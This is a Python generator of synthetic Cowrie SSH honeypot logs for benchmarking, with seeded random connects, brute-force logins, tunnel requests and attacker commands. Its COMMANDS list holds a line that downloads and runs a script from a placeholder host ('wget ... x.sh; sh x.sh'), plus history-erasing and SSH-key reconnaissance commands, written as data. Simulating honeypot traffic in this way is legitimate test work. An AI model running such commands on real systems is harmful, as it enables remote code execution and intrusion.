"""Synthetic Cowrie logs for benchmarks: the mix an internet-facing SSH honeypot sees.

Per 100 lines, about: 15 failed logins, 8 tunnel data lines (plus their requests),
1 command, the rest connects, client versions and key exchanges, closes, and a few
successful logins.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

import orjson

USERS = ("root", "admin", "ubuntu", "test", "oracle", "pi", "user", "git", "postgres", "guest")
PASSWORDS = ("123456", "password", "admin", "root", "12345678", "qwerty", "1234", "P@ssw0rd",
             "raspberry", "changeme")
VERSIONS = ("SSH-2.0-Go", "SSH-2.0-libssh2_1.9.0", "SSH-2.0-OpenSSH_7.4", "SSH-2.0-PUTTY",
            "SSH-2.0-libssh-0.6.3", "SSH-2.0-paramiko_2.11.0")
HASSH = ("4e066189c3bbeec38c99b1855113733a", "b5752e36ba6c5979a575e43178908adf",
         "ec7378c1a92f5a8dde7e8b7a1ddc33d1", "92674389fa1e47a27ddd8d9b63ecd42b")
COMMANDS = ("uname -a", "cat /proc/cpuinfo | grep name | wc -l", "ps | grep '[Mm]iner'",
            "cd /tmp; wget http://203.0.113.77/x.sh; sh x.sh", "unset HISTFILE",
            "echo -e \"\\x6F\\x6B\"", "free -m | grep Mem", "ls -la ~/.ssh", "crontab -l",
            "/ip cloud print", "enable", "nproc")
TARGETS = (("ip-who.com", 80, "GET /json/ HTTP/1.1\\r\\nHost: ip-who.com\\r\\nUser-Agent: "
            "Go-http-client/1.1\\r\\n\\r\\n"),
           ("smtp.example.net", 25, "EHLO localhost\\r\\n"),
           ("www.example.com", 443, "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03"),
           ("api.example.org", 80, "POST /v1/login HTTP/1.1\\r\\nHost: api.example.org\\r\\n"
            "User-Agent: python-requests/2.31.0\\r\\nContent-Length: 42\\r\\n\\r\\n"))


def cowrie_lines(count: int, seed: int = 1) -> Iterator[bytes]:
    """`count` Cowrie JSON lines (without newlines) in the realistic mix."""
    rng = random.Random(seed)
    moment = datetime(2025, 1, 1, tzinfo=UTC)
    sensor = "hp-bench-01"
    produced = 0
    session_no = 0
    while produced < count:
        session_no += 1
        session = f"{session_no:012x}"
        src = f"198.{rng.randrange(18, 20)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
        lines: list[dict[str, object]] = [
            {"eventid": "cowrie.session.connect", "src_ip": src,
             "src_port": rng.randrange(1024, 65535), "dst_ip": "10.0.0.5", "dst_port": 22,
             "session": session, "protocol": "ssh",
             "message": f"New connection: {src} (10.0.0.5:22) [session: {session}]"},
            {"eventid": "cowrie.client.version", "version": rng.choice(VERSIONS),
             "message": "Remote SSH version"},
            {"eventid": "cowrie.client.kex", "hassh": rng.choice(HASSH),
             "hasshAlgorithms": "curve25519-sha256,ecdh-sha2-nistp256;aes128-ctr;hmac-sha2-256;"
                                "none", "message": "SSH client hassh fingerprint"},
        ]
        for _ in range(rng.choice((0, 0, 1, 1, 1, 1, 1, 2))):
            user, password = rng.choice(USERS), rng.choice(PASSWORDS)
            lines.append({"eventid": "cowrie.login.failed", "username": user,
                          "password": password,
                          "message": f"login attempt [{user}/{password}] failed"})
        roll = rng.random()
        if roll < 0.25:
            lines.append({"eventid": "cowrie.login.success", "username": "root",
                          "password": "admin", "message": "login attempt [root/admin] succeeded"})
            for _ in range(rng.choice((1, 2, 3))):
                host, port, data = rng.choice(TARGETS)
                lines.append({"eventid": "cowrie.direct-tcpip.request", "dst_ip": host,
                              "dst_port": port, "src_port": 0,
                              "message": f"direct-tcp connection request to {host}:{port}"})
                lines.append({"eventid": "cowrie.direct-tcpip.data", "dst_ip": host,
                              "dst_port": port, "data": f"b'{data}'",
                              "message": f"direct-tcp forward to {host}:{port}"})
        elif roll < 0.29:
            lines.append({"eventid": "cowrie.login.success", "username": "root",
                          "password": "1234", "message": "login attempt succeeded"})
            for _ in range(rng.choice((1, 2, 3))):
                command = rng.choice(COMMANDS)
                lines.append({"eventid": "cowrie.command.input", "input": command,
                              "message": f"CMD: {command}"})
        lines.append({"eventid": "cowrie.session.closed", "duration": round(rng.random() * 9, 1),
                      "message": "Connection lost"})
        for record in lines:
            moment += timedelta(microseconds=rng.randrange(1000, 400_000))
            record.update({"sensor": sensor, "timestamp": moment.strftime(
                "%Y-%m-%dT%H:%M:%S.%fZ"), "src_ip": src, "session": session})
            yield orjson.dumps(record)
            produced += 1
            if produced >= count:
                return
